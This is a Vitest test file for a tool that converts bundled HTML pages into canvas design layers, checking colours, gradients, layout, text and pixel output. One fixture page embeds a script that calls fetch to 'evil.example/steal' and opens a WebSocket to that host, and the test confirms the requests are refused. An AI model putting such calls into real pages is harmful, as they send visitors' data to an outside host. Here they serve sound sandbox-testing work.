import { existsSync } from 'node:fs';
import { dirname } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PageLayer } from '../../schemas/page-layers.ts';
import { measureInBrowser } from '../../server/bundles/canvas/browser.ts';
import { faithfulFlex } from '../../server/bundles/canvas/flex.ts';
import { gradientOf, hexOf, shadowsOf } from '../../server/bundles/canvas/paint.ts';
import { createHeadlessCanvas, type HeadlessCanvas } from '../../server/canvas/headless-canvas.ts';
import { newService, page, readme, writeTarGz } from './archives.ts';

describe('computed paint', () => {
  it('reads colours of every space, gradients and shadows', () => {
    expect(hexOf('oklch(1 0 0)')).toBe('#ffffffff');
    expect(hexOf('rgba(255, 0, 0, 0.5)')).toBe('#ff000080');
    expect(hexOf('rgba(0, 0, 0, 0)')).toBeUndefined();
    expect(gradientOf('linear-gradient(135deg, rgb(255, 0, 0) 0%, rgba(0, 0, 255, 0.5) 100%)')).toEqual({
      type: 'linear',
      angle: 135,
      stops: [
        { color: '#ff0000ff', position: 0 },
        { color: '#0000ff80', position: 1 },
      ],
    });
    expect(gradientOf('linear-gradient(to right, red, blue)')?.angle).toBe(90);
    expect(gradientOf('radial-gradient(circle at 50% 30%, rgb(1, 2, 3), rgb(4, 5, 6))')?.stops).toHaveLength(
      2,
    );
    expect(gradientOf('url("x.png")')).toBeUndefined();
    expect(
      shadowsOf('rgba(0, 0, 0, 0.2) 0px 4px 12px 2px, rgb(255, 255, 255) 0px 1px 0px 0px inset'),
    ).toEqual(
      [
        { type: 'drop_shadow', color: '#000000', opacity: 0.2, x: 0, y: 4, blur: 12, spread: 2 },
        { type: 'inner_shadow', color: '#ffffff', opacity: 1, x: 0, y: 1, blur: 0, spread: 0 },
      ].map((one) => ({ ...one, opacity: expect.closeTo(one.opacity, 2) })),
    );
  });
});

describe('gradients with a place', () => {
  const box = { width: 200, height: 100 };

  it.each([
    ['circle at 50% 50%', [0.5, 0.5], [0.559, 1.118]],
    ['circle closest-side at left top', [0, 0], undefined],
    ['closest-side', [0.5, 0.5], [0.5, 0.5]],
    ['60px 20px at 10% 90%', [0.1, 0.9], [0.3, 0.2]],
    ['circle 50px at 20px 10px', [0.1, 0.1], [0.25, 0.5]],
    ['farthest-side at center top', [0.5, 0], [0.5, 1]],
  ])('radial-gradient(%s)', (prelude, center, radius) => {
    const found = gradientOf(`radial-gradient(${prelude}, rgb(1, 2, 3), rgb(4, 5, 6))`, box);
    if (radius === undefined) expect(found?.center, 'a circle without a reach').toBeUndefined();
    else {
      expect(found?.center).toEqual(center);
      expect(found?.radius?.map((one) => Math.round(one * 1000) / 1000)).toEqual(radius);
    }
  });

  it('stops in px are measured along the gradient', () => {
    const found = gradientOf('linear-gradient(90deg, rgb(1, 2, 3) 20px, rgb(4, 5, 6) 100px)', box);
    expect(found?.stops.map(({ position }) => position)).toEqual([0.1, 0.5]);
  });
});

describe('auto-layout', () => {
  const child = (x: number, y: number, width = 20, height = 10): PageLayer => ({
    kind: 'box',
    name: 'c',
    x,
    y,
    width,
    height,
    opacity: 1,
  });
  const row = (children: PageLayer[], flex = {}): PageLayer => ({
    kind: 'box',
    name: 'r',
    x: 0,
    y: 0,
    width: 100,
    height: 30,
    opacity: 1,
    children,
    flex: {
      direction: 'HORIZONTAL',
      gap: 5,
      padding: [0, 10, 0, 10],
      justify: 'MIN',
      align: 'CENTER',
      ...flex,
    },
  });

  it('is used where it draws the same, and only there', () => {
    expect(faithfulFlex(row([child(10, 10), child(35, 10)]))).toMatchObject({ gap: 5 });
    expect(faithfulFlex(row([child(10, 10), child(70, 10)], { justify: 'SPACE_BETWEEN' }))).toMatchObject({
      justify: 'SPACE_BETWEEN',
    });
    expect(faithfulFlex(row([child(10, 10), child(45, 10)]))).toBeUndefined();
    expect(faithfulFlex(row([child(10, 2), child(35, 10)]))).toBeUndefined();
    expect(faithfulFlex(row([child(10, 10), { ...child(0, 0), absolute: true }]))).toBeDefined();
  });
});

const browser = ['/usr/bin/chromium', '/usr/bin/google-chrome'].some((path) => existsSync(path));
const body = `
  <header style="display:flex;justify-content:space-between;align-items:center;padding:20px;background:#102030;border-radius:12px">
    <span style="color:#fff;font:700 24px Inter">Shop <b style="color:#ff0000">now</b></span>
    <button style="display:flex;gap:8px;align-items:center;padding:8px 16px;border:2px solid rgb(0,255,0);background:none;color:#fff">Buy</button>
  </header>
  <div style="position:relative;height:200px;background:linear-gradient(90deg,#f00,#00f);box-shadow:0 4px 12px rgba(0,0,0,.3)">
    <img src="red.png" style="position:absolute;left:40px;top:30px;width:100px;height:80px;object-fit:contain">
    <img src="https://evil.example/x.png" style="position:absolute;left:200px;top:30px;width:50px;height:50px">
    <svg style="position:absolute;left:300px;top:20px;color:#0f0" width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="18" fill="currentColor"/></svg>
    <canvas width="60" height="60" style="position:absolute;left:400px;top:20px"></canvas>
    <p style="position:absolute;left:500px;top:20px;width:120px;margin:0;font:16px/24px Inter">A text long enough to need three lines.</p>
    <i style="display:block;transform:rotate(20deg);width:10px;height:10px;background:#000"></i>
  </div>
  <script>document.title='ran'; fetch('https://evil.example/steal?x=1').catch(()=>{}); new WebSocket('wss://evil.example/'); const c=document.querySelector('canvas').getContext('2d'); c.fillStyle='#0ff'; c.fillRect(0,0,60,60);</script>`;

describe.skipIf(!browser)('a page on the canvas', () => {
  let canvas: HeadlessCanvas;
  beforeAll(() => {
    canvas = createHeadlessCanvas();
  });
  afterAll(() => canvas.close());

  it('comes as real layers: frames, auto-layout, texts, pictures, vectors; what is lost is said', async () => {
    const red = await sharp({ create: { width: 50, height: 40, channels: 3, background: '#ff0000' } })
      .png()
      .toBuffer();
    const source = await writeTarGz({
      'README.md': readme({ openFile: 'index.html' }),
      'project/index.html': page(body, '<style>body{margin:0}</style>'),
      'project/red.png': red,
    });
    const { service } = newService([dirname(source)]);
    const parsed = await service.parse(source);
    const measured = await service.measure(parsed, {
      page: service.pageOf(parsed),
      width: 800,
      height: 600,
      cdn: false,
    });
    expect(measured.refused).toContain('evil.example');
    const brought = await service.draw(canvas, parsed, measured, service.pageOf(parsed));
    expect(brought).toMatchObject({ width: 800, truncated: false });
    expect(brought.lost).toMatchObject({
      'canvas (taken as a picture)': 1,
      'pictures that are not in the bundle': 1,
    });

    const { nodes } = await canvas
      .snapshot(brought.frameId)
      .then((snapshot) => ({ nodes: flatten(snapshot) }));
    const texts = nodes.filter(({ type }) => type === 'TEXT').map(({ characters }) => characters);
    expect(texts).toEqual(
      expect.arrayContaining(['Shop now', 'Buy', 'A text long enough to need three lines.']),
    );
    expect(nodes.find(({ name }) => name === 'header')).toMatchObject({
      type: 'FRAME',
      layoutMode: 'HORIZONTAL',
      primaryAxisAlignItems: 'SPACE_BETWEEN',
      paddingLeft: 20,
    });
    expect(nodes.some(({ type }) => type === 'VECTOR' || type === 'ELLIPSE')).toBe(true);

    const { bytes, width } = await canvas.export({ node: brought.frameId, format: 'PNG', scale: 1 });
    const { data, info } = await sharp(bytes).removeAlpha().raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [
      ...data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3),
    ];
    const top = Math.round(measured.root.children?.[1]?.y ?? 0);
    expect(width).toBe(800);
    expect(pixel(400, 10)).toEqual([16, 32, 48]);
    expect(pixel(90, top + 70)).toEqual([255, 0, 0]);
    expect(pixel(320, top + 40)).toEqual([0, 255, 0]);
    expect(pixel(430, top + 50)).toEqual([0, 255, 255]);
    const [red1 = 0, , blue1 = 0] = pixel(700, top + 150);
    expect(blue1).toBeGreaterThan(red1);
  });

  it('brings one part, beside what is there, and says when it is not there', async () => {
    const source = await writeTarGz({
      'README.md': readme({}),
      'project/index.html': page('<main id="a"><p>one</p></main><main id="b"><p>two</p></main>'),
    });
    const { service } = newService([dirname(source)]);
    const parsed = await service.parse(source);
    const path = service.pageOf(parsed, 'index.html');
    const part = await service.measure(parsed, {
      page: path,
      width: 400,
      height: 300,
      cdn: false,
      selector: '#b',
    });
    const { frameId } = await service.draw(canvas, parsed, part, path);
    const nodes = flatten(await canvas.snapshot(frameId));
    expect(nodes.filter(({ type }) => type === 'TEXT').map(({ characters }) => characters)).toEqual(['two']);
    const { results } = await canvas.run({ ops: [{ op: 'read', node: frameId }] });
    expect(results[0]?.value).toMatchObject({ box: { x: 960 } });
    await expect(
      service.measure(parsed, { page: path, width: 400, height: 300, cdn: false, selector: '#nope' }),
    ).rejects.toMatchObject({ code: 'bad_value', path: 'selector' });
    expect(() => service.pageOf(parsed, 'x.html')).toThrow(/no page/);
  });

  /** A page drawn at 400 x 300, its pixels and what was lost. */
  async function drawn(html: string, head = '') {
    const source = await writeTarGz({ 'README.md': readme({}), 'project/index.html': page(html, head) });
    const { service } = newService([dirname(source)]);
    const parsed = await service.parse(source);
    const path = service.pageOf(parsed, 'index.html');
    const measured = await service.measure(parsed, { page: path, width: 400, height: 300, cdn: false });
    const brought = await service.draw(canvas, parsed, measured, path);
    const { bytes } = await canvas.export({ node: brought.frameId, format: 'PNG', scale: 1 });
    const { data, info } = await sharp(bytes).removeAlpha().raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [
      ...data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3),
    ];
    return { pixel, measured, lost: brought.lost, nodes: flatten(await canvas.snapshot(brought.frameId)) };
  }
  const reset = '<style>body{margin:0;background:#fff;height:300px;position:relative}</style>';

  it('colours without blue are colours: black bars, yellow boxes, borders', async () => {
    const { pixel } = await drawn(
      '<div style="background:#000;height:40px"></div><div style="background:#ff0;height:40px"></div><div style="border-top:20px solid #f00;height:20px"></div>',
      reset,
    );
    expect([pixel(5, 20), pixel(5, 60), pixel(5, 90)]).toEqual([
      [0, 0, 0],
      [255, 255, 0],
      [255, 0, 0],
    ]);
  });

  it('a background cut to the letters fills the letters and nothing else', async () => {
    const { pixel, nodes } = await drawn(
      '<h1 style="margin:0;font:900 80px/100px Inter;background:linear-gradient(90deg,#f00,#00f);-webkit-background-clip:text;background-clip:text;-webkit-text-fill-color:transparent">III</h1>',
      reset,
    );
    expect(pixel(390, 50)).toEqual([255, 255, 255]);
    const text = nodes.find(({ characters }) => characters === 'III');
    expect(text?.['runs']).toMatchObject([{ fills: [{ type: 'GRADIENT_LINEAR' }] }]);
  });

  it('the styles a sheet gives a drawing come along; rings begin where they were shifted to', async () => {
    const { pixel, lost } = await drawn(
      `<svg class="a" width="100" height="100" viewBox="0 0 100 100"><rect class="b" width="100" height="100"/></svg>
       <svg style="position:absolute;left:200px;top:0" width="100" height="100" viewBox="0 0 100 100"><circle class="c" cx="50" cy="50" r="40"/></svg>
       <svg style="position:absolute;left:300px;top:0;transform:rotate(90deg)" width="100" height="100" viewBox="0 0 100 100"><rect width="100" height="50" fill="#0f0"/></svg>`,
      `${reset}<style>.a{display:block}.b{fill:oklch(0.628 0.2577 29.23)}.c{fill:none;stroke:#00f;stroke-width:20;stroke-dasharray:63 252;stroke-dashoffset:-126}</style>`,
    );
    expect(pixel(50, 50)).toEqual([255, 0, 0]);
    // A quarter from the left to the top, not from the right to the bottom.
    expect(pixel(222, 22)).toEqual([0, 0, 255]);
    expect(pixel(278, 78)).toEqual([255, 255, 255]);
    expect(pixel(390, 80), 'turned by a quarter').toEqual([0, 255, 0]);
    expect(pixel(310, 20)).toEqual([255, 255, 255]);
    expect(lost['offset of dashes']).toBeUndefined();
  });

  it('the stops of a gradient in a drawing have the colours sheets and variables give them', async () => {
    const { pixel } = await drawn(
      `<svg width="400" height="100" viewBox="0 0 400 100" style="display:block"><defs><linearGradient id="g"><stop offset="0" style="stop-color:var(--a)"/><stop class="b" offset="1"/></linearGradient></defs><rect width="400" height="100" fill="url(#g)"/></svg>`,
      `${reset}<style>:root{--a:#f00}.b{stop-color:#00f}</style>`,
    );
    const [[red = 0], [, , blue = 0]] = [pixel(5, 50) as number[], pixel(395, 50) as number[]];
    expect(red).toBeGreaterThan(240);
    expect(blue).toBeGreaterThan(240);
  });

  it('what ::before and ::after paint is there when its place is known, and lost when it is not', async () => {
    const { pixel, lost } = await drawn(
      '<div class="card"><p class="mark">text</p></div>',
      `${reset}<style>.card{position:relative;width:200px;height:100px;border:10px solid #ccc;background:#fff}.card::after{content:"";position:absolute;right:0;top:0;width:40px;height:30px;padding:5px;background:#f00}.card::before{content:"";position:absolute;inset:auto 0 0 0;height:20px;background:#00f}.mark::before{content:"x"}</style>`,
    );
    expect(pixel(205, 15)).toEqual([255, 0, 0]);
    expect(pixel(162, 15)).toEqual([255, 0, 0]);
    expect(pixel(157, 15)).toEqual([255, 255, 255]);
    expect(pixel(100, 100)).toEqual([0, 0, 255]);
    expect(pixel(100, 112)).toEqual([204, 204, 204]);
    expect(lost).toEqual({});
  });

  it('what ::before and ::after say in the flow comes along, unless making it an element moves something', async () => {
    const { nodes, pixel, lost } = await drawn(
      '<p class="mark">text</p><ul class="list"><li>one</li><li>two</li></ul><div class="row"><b>x</b></div>',
      `${reset}<style>p{margin:0}.mark::before{content:"\\2192 "}.list>*{position:relative;display:block;height:20px;margin:0}.list>*+*{margin-top:40px}.list::before{content:"head"}.row{display:flex}.row::after{content:"";width:60px;height:40px;background:#f00}</style>`,
    );
    const texts = nodes
      .filter(({ type }) => type === 'TEXT')
      .map(({ characters }) => String(characters).trim());
    expect(texts).toEqual(expect.arrayContaining(['→text', 'one', 'two']));
    expect(texts).not.toContain('head');
    expect(lost).toEqual({ '::before and ::after': 1 });
    const last = nodes.find(({ name }) => name === 'after');
    expect(last).toMatchObject({ width: 60, height: 40 });
    expect(pixel(30, 150)).toEqual([255, 0, 0]);
  });

  it('a page that is larger than its window comes whole, unless it cuts what is outside', async () => {
    const tall = '<div style="width:700px;height:900px;background:#0f0"></div>';
    const whole = await drawn(tall, '<style>html,body{margin:0;height:100%}</style>');
    expect([whole.measured.root.width, whole.measured.root.height]).toEqual([700, 900]);
    const cut = await drawn(tall, '<style>html,body{margin:0;height:100%;overflow:hidden}</style>');
    expect([cut.measured.root.width, cut.measured.root.height]).toEqual([400, 300]);
  });

  it('what lies over what is told by z-index and position, also beside and inside of flex', async () => {
    const { pixel } = await drawn(
      `<nav style="position:fixed;z-index:9;left:0;top:0;width:400px;height:40px;background:#f00"></nav>
       <section style="position:relative;display:flex;height:150px;background:#ccc"><i style="position:absolute;inset:0;background:#00f"></i><b style="position:relative;z-index:1;margin-top:60px;width:100px;height:40px;background:#0f0"></b></section>
       <div style="position:relative;height:100px"><div style="position:absolute;z-index:-1;inset:0;background:#f0f"></div><div style="width:50px;height:50px;background:#ff0"></div></div>`,
      reset,
    );
    expect([pixel(200, 20), pixel(50, 80), pixel(200, 120), pixel(20, 170), pixel(200, 200)]).toEqual([
      [255, 0, 0],
      [0, 255, 0],
      [0, 0, 255],
      [255, 255, 0],
      [255, 0, 255],
    ]);
  });

  it('turned and scaled elements are turned and scaled, with what is in them', async () => {
    const { pixel, nodes, lost } = await drawn(
      `<div style="position:absolute;left:100px;top:50px;width:100px;height:20px;background:#00f;transform:rotate(90deg)"><i style="position:absolute;left:0;top:0;width:20px;height:20px;background:#f00"></i></div>
       <div style="position:absolute;left:250px;top:0;width:200px;height:100px;transform:scale(.5);transform-origin:0 0;background:#eee"><p style="margin:0;font:40px/60px Inter;border-left:20px solid #0f0;border-radius:10px">Half</p></div>
       <div style="position:absolute;left:0;top:200px;width:20px;height:20px;background:#000;transform:skew(20deg)"></div>`,
      reset,
    );
    // About its middle, at 150, 60: from 140 to 160, and from 10 to 110; what was left is above.
    expect([pixel(150, 20), pixel(150, 100), pixel(110, 60)]).toEqual([
      [255, 0, 0],
      [0, 0, 255],
      [255, 255, 255],
    ]);
    expect(pixel(255, 15)).toEqual([0, 255, 0]);
    expect(pixel(265, 25)).toEqual([238, 238, 238]);
    const half = nodes.find(({ characters }) => characters === 'Half');
    expect(half?.['runs']).toMatchObject([{ fontSize: 20 }]);
    expect(lost).toEqual({ 'skew, mirroring and uneven scale': 1 });
  });

  it('the parts of a web component are drawn, and what stands in its slots as large as it is', async () => {
    const { nodes, pixel } = await drawn(
      `<x-stage><p style="margin:0;font:60px/60px Inter">Slide</p></x-stage>
       <script>customElements.define('x-stage', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<div style="width:400px;height:100px;background:#f00;transform:scale(.5);transform-origin:0 0"><slot></slot></div><b style="display:block">Notes</b>'; } });</script>`,
      reset,
    );
    const texts = nodes.filter(({ type }) => type === 'TEXT');
    expect(texts.map(({ characters }) => characters)).toEqual(['Notes', 'Slide']);
    expect(texts[1]?.['runs']).toMatchObject([{ fontSize: 30 }]);
    expect(pixel(190, 45)).toEqual([255, 0, 0]);
    expect(pixel(210, 45)).toEqual([255, 255, 255]);
  });

  it('blurs, shadows of letters, blend modes and borders of several colours have their counterparts', async () => {
    const { nodes, pixel, lost } = await drawn(
      `<div style="position:absolute;left:0;top:0;width:50px;height:50px;background:#00f;filter:blur(4px) drop-shadow(0 2px 3px #f00)"></div>
       <div style="position:absolute;left:100px;top:0;width:50px;height:50px;background:#0008;backdrop-filter:blur(10px)"></div>
       <div style="position:absolute;left:0;top:100px;width:100px;height:50px;background:#ff0"></div>
       <div style="position:absolute;left:0;top:100px;width:50px;height:50px;background:#0ff;mix-blend-mode:multiply"></div>
       <div style="position:absolute;left:200px;top:100px;width:60px;height:40px;border:2px solid #ccc;border-left:10px solid #f00"></div>
       <p style="position:absolute;left:0;top:200px;margin:0;text-shadow:0 2px 6px rgb(0,0,0)">Lifted</p>`,
      reset,
    );
    const effects = nodes.flatMap(({ effects }) => (Array.isArray(effects) ? (effects as unknown[]) : []));
    expect(effects).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ type: 'LAYER_BLUR', radius: 8 }),
        expect.objectContaining({ type: 'DROP_SHADOW', radius: 6, offset: { x: 0, y: 2 } }),
        expect.objectContaining({ type: 'BACKGROUND_BLUR', radius: 20 }),
      ]),
    );
    expect(nodes.find(({ characters }) => characters === 'Lifted')?.['effects']).toMatchObject([
      { type: 'DROP_SHADOW', radius: 6 },
    ]);
    expect([pixel(25, 125), pixel(75, 125)]).toEqual([
      [0, 255, 0],
      [255, 255, 0],
    ]);
    expect([pixel(204, 120), pixel(230, 101), pixel(271, 120), pixel(240, 120)]).toEqual([
      [255, 0, 0],
      [204, 204, 204],
      [204, 204, 204],
      [255, 255, 255],
    ]);
    expect(lost).toEqual({});
  });

  it('corners in per cent are round, and colours fade to clear without grey', async () => {
    const { pixel } = await drawn(
      '<div style="width:200px;height:200px;border-radius:50%;background:#00f"></div><div style="height:50px;background:linear-gradient(90deg,#f00,transparent)"></div>',
      reset,
    );
    expect([pixel(100, 100), pixel(100, 5), pixel(25, 25)]).toEqual([
      [0, 0, 255],
      [0, 0, 255],
      [255, 255, 255],
    ]);
    const [red, green, blue] = pixel(200, 225);
    expect(red).toBe(255);
    expect(green).toBe(blue);
    expect(Math.abs((green ?? 0) - 128)).toBeLessThan(4);
  });

  it('lines closer than their letters are high stand where they stood', async () => {
    const { nodes, measured } = await drawn(
      '<h1 style="margin:40px 0 0;font:700 80px/64px Inter">Two<br>lines</h1>',
      `${reset}<style>body{display:flow-root}</style>`,
    );
    expect(measured.root.children?.[0]).toMatchObject({ y: 40, height: 128 });
    const text = nodes.find(({ type }) => type === 'TEXT');
    expect(text).toMatchObject({ height: 128 });
    expect(Math.abs(measured.root.children?.[0]?.children?.[0]?.y ?? 9)).toBeLessThan(1);
  });

  it('text is set in the first family the canvas has, else in one of its kind', async () => {
    const { nodes } = await drawn(
      `<p style="font-family:'No Such Face','Anton',serif">first</p><p style="font-family:'No Such Face',serif">second</p><p style="font-family:'No Such Face',monospace">third</p>`,
      reset,
    );
    const family = (words: string) =>
      JSON.stringify(nodes.find(({ characters }) => characters === words)?.['runs']);
    expect(family('first')).toContain('"Anton"');
    expect(family('second')).toMatch(/Serif|Playfair|Lora|Merriweather|Georgia/);
    expect(family('third')).toMatch(/Mono|Courier|Code/);
  });

  it('a repeating picture is lost, not smeared over the box; a glow stands where it stood', async () => {
    const { pixel, lost } = await drawn(
      '<div style="height:100px;background-image:linear-gradient(#000 1px,transparent 1px);background-size:20px 20px"></div><div style="height:100px;background:radial-gradient(circle 40px at 50px 50px,#f00,#f00 90%,transparent 90%)"></div>',
      reset,
    );
    expect(lost).toEqual({ 'background patterns': 1 });
    expect(pixel(200, 50)).toEqual([255, 255, 255]);
    expect(pixel(50, 150)).toEqual([255, 0, 0]);
    expect(pixel(200, 150)).toEqual([255, 255, 255]);
  });

  it('a picture of a canvas holds the canvas alone', async () => {
    const { pixel } = await drawn(
      '<canvas width="400" height="300" style="position:absolute;left:0;top:0"></canvas><div style="position:absolute;left:100px;top:100px;width:50px;height:50px;background:#0f0;display:none" id="d"></div><div style="position:absolute;left:50px;top:50px;width:300px;height:50px;opacity:.5;background:#f00"></div>',
      reset,
    );
    // Drawn once at half: twice would be darker.
    expect(pixel(200, 75)).toEqual([255, 128, 128]);
  });

  it('rings, outlines and list markers are drawn; controls the browser draws are pictures', async () => {
    const { pixel, nodes, lost } = await drawn(
      `<div style="position:absolute;left:20px;top:20px;width:60px;height:40px;box-shadow:inset 0 0 0 6px #f00"></div>
       <div style="position:absolute;left:120px;top:20px;width:60px;height:40px;box-shadow:0 0 0 6px #00f"></div>
       <div style="position:absolute;left:220px;top:20px;width:60px;height:40px;outline:6px solid #0f0"></div>
       <div style="position:absolute;left:320px;top:20px;width:60px;height:40px;border-left:10px solid #f00;border-bottom:1px solid #ccc"></div>
       <progress value="1" style="position:absolute;left:20px;top:200px;width:200px;height:40px;accent-color:#f00"></progress>
       <ol style="position:absolute;left:0;top:80px;margin:0;padding-left:40px"><li>First<li>Next</ol>`,
      reset,
    );
    expect([pixel(23, 40), pixel(30, 40), pixel(117, 40), pixel(217, 40), pixel(324, 40)]).toEqual([
      [255, 0, 0],
      [255, 255, 255],
      [0, 0, 255],
      [0, 255, 0],
      [255, 0, 0],
    ]);
    expect(pixel(120, 220)).not.toEqual([255, 255, 255]);
    expect(nodes.filter(({ name }) => name === 'marker').map(({ characters }) => characters)).toEqual([
      '1.',
      '2.',
    ]);
    expect(lost).toEqual({
      'form control (taken as a picture)': 1,
    });
  });

  it('text that the page cuts is cut, and spaces behind inline elements stay', async () => {
    const { nodes, lost } = await drawn(
      `<p style="width:100px;white-space:nowrap;overflow:hidden;text-overflow:ellipsis;font:16px Inter">A sentence longer than its box</p>
       <p style="width:100px;display:-webkit-box;-webkit-line-clamp:2;-webkit-box-orient:vertical;overflow:hidden;font:16px Inter">This is cut after its second line, however long it is</p>
       <p style="font:16px Inter">Press <code style="background:#eee;padding:2px 4px">x</code> to go</p>
       <div style="writing-mode:vertical-rl">down</div>`,
      reset,
    );
    expect(
      nodes
        .filter(({ maxLines }) => typeof maxLines === 'number')
        .map(({ maxLines, textTruncation }) => [maxLines, textTruncation]),
    ).toEqual([
      [1, 'ENDING'],
      [2, 'ENDING'],
    ]);
    expect(nodes.map(({ characters }) => characters)).toContain(' to go');
    expect(lost).toEqual({ 'vertical text': 1 });
  });

  it('icons of a sprite elsewhere in the page come along', async () => {
    const { pixel, lost } = await drawn(
      `<svg width="0" height="0" style="position:absolute"><symbol id="dot" viewBox="0 0 10 10"><circle cx="5" cy="5" r="5" fill="#f00"/></symbol></svg>
       <svg width="100" height="100" viewBox="0 0 100 100"><use href="#dot"/></svg>`,
      reset,
    );
    expect(pixel(50, 50)).toEqual([255, 0, 0]);
    expect(lost).toEqual({});
  });

  it('text is measured in the font it is drawn in, and a single line stays single', async () => {
    const { measured, nodes } = await drawn(
      '<p style="margin:0;display:inline-block;font:400 40px/48px Anton">Wide words</p><div style="width:300px;text-align:center;font:400 16px Nowhere,monospace"><button style="padding:4px;font:inherit;border:0;letter-spacing:-1px">RANGER MAGE</button></div>',
      reset,
    );
    const anton = measured.root.children
      ?.flatMap((one) => [one, ...(one.children ?? [])])
      .find(({ runs }) => runs?.[0]?.text === 'Wide words');
    const height = (name: string) => nodes.find(({ characters }) => characters === name)?.['height'];
    const width = nodes.find(({ characters }) => characters === 'Wide words')?.['width'];
    expect(
      Math.abs(Number(width) - (anton?.width ?? 0)),
      'as wide on the canvas as on the page',
    ).toBeLessThan(3);
    expect(Number(height('RANGER MAGE'))).toBeLessThan(26);
  });

  it('a page that never ends, or that is not wanted any more, is given up', async () => {
    const source = await writeTarGz({
      'README.md': readme({}),
      'project/index.html': page('<p>still here</p><script>setTimeout(() => { for (;;); }, 200)</script>'),
    });
    const { service } = newService([dirname(source)]);
    const { bundle } = await service.parse(source);
    const request = {
      files: bundle.files,
      page: service.pageOf(await service.parse(source), 'index.html'),
      width: 400,
      height: 300,
      cdn: false,
      mostLayers: 100,
    };
    await expect(measureInBrowser(request, undefined, 5_000)).rejects.toMatchObject({
      code: 'bad_value',
      path: 'page',
      message: expect.stringContaining('does not end'),
    });
    await expect(measureInBrowser(request, AbortSignal.timeout(2_000))).rejects.toMatchObject({
      data: { code: 'cancelled' },
    });
  });

  it('an address that is written wrongly names no file, and the rest of the page comes', async () => {
    const { nodes, lost } = await drawn('<img src="%E0%A4%A" width="40" height="40"><p>rest</p>', reset);
    expect(nodes.map(({ characters }) => characters)).toContain('rest');
    expect(lost).toEqual({ 'pictures that are not in the bundle': 1 });
  });

  it('says clearly when there is no browser', async () => {
    const source = await writeTarGz({ 'README.md': readme({}), 'project/index.html': page('<p>x</p>') });
    const { service } = newService([dirname(source)]);
    const parsed = await service.parse(source);
    const before = process.env['CHROMIUM'];
    process.env['CHROMIUM'] = '/dev/null';
    try {
      await expect(
        service.measure(parsed, { page: 'project/index.html', width: 400, height: 300, cdn: false }),
      ).rejects.toMatchObject({ code: 'no_browser', hint: expect.stringContaining('CHROMIUM') });
    } finally {
      if (before === undefined) delete process.env['CHROMIUM'];
      else process.env['CHROMIUM'] = before;
    }
  });
});

type Plain = { type?: unknown; name?: unknown; characters?: unknown } & Record<string, unknown>;

function flatten(value: unknown): Plain[] {
  const found: Plain[] = [];
  const visit = (one: unknown): void => {
    if (Array.isArray(one)) for (const item of one) visit(item);
    else if (typeof one === 'object' && one !== null) {
      const record = one as Record<string, unknown>;
      const props =
        typeof record['props'] === 'object' && record['props'] !== null
          ? (record['props'] as Record<string, unknown>)
          : {};
      if (typeof record['type'] === 'string' && 'id' in record) found.push({ ...props, ...record });
      for (const [key, inner] of Object.entries(record)) if (key !== 'props') visit(inner);
    }
  };
  visit(value);
  return found;
}
